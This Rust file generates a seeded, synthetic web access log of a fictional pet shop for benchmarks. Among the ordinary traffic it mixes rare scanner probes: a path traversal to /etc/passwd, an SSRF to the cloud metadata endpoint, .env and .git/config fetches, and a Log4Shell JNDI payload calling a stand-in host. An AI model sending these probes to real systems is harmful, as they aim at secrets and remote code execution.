//! A seeded log of a shop that never was, for benches to read.
//!
//! What matters for speed is in it: few clients that ask often and many that ask once, a few routes that are asked for
//! all the time and a long tail, identifiers in paths, queries with and without encoding, URLs in a parameter, agents
//! and referers that repeat, and a scanner's requests among the others, one line in a thousand.

/// A generator of numbers that gives the same ones everywhere (splitmix64).
pub struct Dice(u64);

impl Dice {
    /// The generator of that seed.
    pub fn new(seed: u64) -> Dice {
        Dice(seed)
    }

    /// The next number.
    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        mixed ^ (mixed >> 31)
    }

    /// A number below `end`.
    pub fn below(&mut self, end: u64) -> u64 {
        self.next() % end
    }

    /// A number below `end`, small ones far more often than large ones.
    pub fn skewed(&mut self, end: u64) -> u64 {
        let doublings = u64::from(end.ilog2()) + 1;
        let span = 1 << self.below(doublings + 1).min(63);
        self.below(span.min(end))
    }
}

const AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 13; Pixel {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{}.0) Gecko/20100101 Firefox/{}.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "ShopApp/4.{} (Android 13)",
];

const PROBES: [&str; 8] = [
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/actuator/env",
    "/index.php?file=../../../../etc/passwd",
    "/proxy?url=http://169.254.169.254/latest/meta-data/",
    "/backup.sql.gz",
    "/?x=${jndi:ldap://198.51.100.9/a}",
];

/// A log in the combined format of at least `bytes` bytes.
pub fn log(seed: u64, bytes: usize) -> Vec<u8> {
    let mut dice = Dice::new(seed);
    let mut out = Vec::with_capacity(bytes + 1024);
    let mut seconds = 0;
    while out.len() < bytes {
        seconds += dice.below(2);
        line(&mut dice, seconds, &mut out);
    }
    out
}

fn line(dice: &mut Dice, seconds: u64, out: &mut Vec<u8>) {
    let (day, hour, minute, second) = (1 + seconds / 86_400 % 30, seconds / 3600 % 24, seconds / 60 % 60, seconds % 60);
    let client = dice.skewed(200_000);
    let (target, status, bytes) = request(dice);
    let client = format!("{}.{}.{}.{}", 1 + client % 223, client / 7 % 256, client / 911 % 256, 1 + client % 251);
    let agent = AGENTS[dice.below(6) as usize].replace("{}", &dice.below(40).to_string());
    let referer = match dice.below(4) {
        0 => "-".to_owned(),
        1 => "https://shop.example/".to_owned(),
        _ => format!("https://shop.example/products/{}", dice.skewed(3000)),
    };
    let line = format!(
        "{client} - - [{day:02}/May/2024:{hour:02}:{minute:02}:{second:02} +0900] \"GET {target} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{agent}\"\n"
    );
    out.extend_from_slice(line.as_bytes());
}

/// A target, its status and the size of its answer.
fn request(dice: &mut Dice) -> (String, u16, u64) {
    let size = |dice: &mut Dice, from: u64, span: u64| from + dice.below(span);
    match dice.below(1000) {
        0 => (PROBES[dice.below(8) as usize].to_owned(), 404, 1532),
        1..=20 => (format!("/missing/{}", dice.skewed(5000)), 404, 1532),
        21..=120 => ("/".to_owned(), 200, size(dice, 11_000, 14_000)),
        121..=330 => (
            format!(
                "/products/{}-{}",
                dice.skewed(3000),
                ["salmon", "beef", "puppy-starter", "senior-natural"][dice.below(4) as usize]
            ),
            200,
            size(dice, 6_000, 40_000),
        ),
        331..=560 => (
            format!(
                "/assets/{}.{:08x}.{}",
                ["app", "vendor", "fonts", "style"][dice.below(4) as usize],
                dice.below(40) * 2_654_435_761 % (1 << 32),
                ["js", "css", "woff2"][dice.below(3) as usize]
            ),
            200,
            1000 * (1 + dice.below(60)),
        ),
        561..=660 => (format!("/api/v1/orders/{}", 500_000 + dice.skewed(40_000)), 200, size(dice, 900, 2_500)),
        661..=740 => {
            (format!("/api/v1/recommendations?product_id={}&limit=8", dice.skewed(3000)), 200, size(dice, 1_700, 3_800))
        }
        741..=800 => (
            format!(
                "/media/proxy?src=https%3A%2F%2Fcdn.shop.example%2Fp%2F{:010x}.jpg&w=640&fmt=webp",
                dice.skewed(9000) * 40_503
            ),
            200,
            size(dice, 5_000, 90_000),
        ),
        801..=840 => (
            format!("/search?q=%E5%AD%90%E7%8A%AC+{}&page={}", dice.skewed(500), dice.skewed(20)),
            200,
            size(dice, 7_000, 12_000),
        ),
        841..=900 => {
            (format!("/category/c{}/s{}?sort=price", dice.skewed(40), dice.skewed(60)), 200, size(dice, 15_000, 20_000))
        }
        901..=950 => ("/api/v1/shop/settings?fields=name,logo,locale,theme".to_owned(), 200, size(dice, 700, 160)),
        _ => (
            format!("/blog/{}/{}", ["news", "care", "food"][dice.below(3) as usize], dice.skewed(900)),
            200,
            size(dice, 9_000, 30_000),
        ),
    }
}
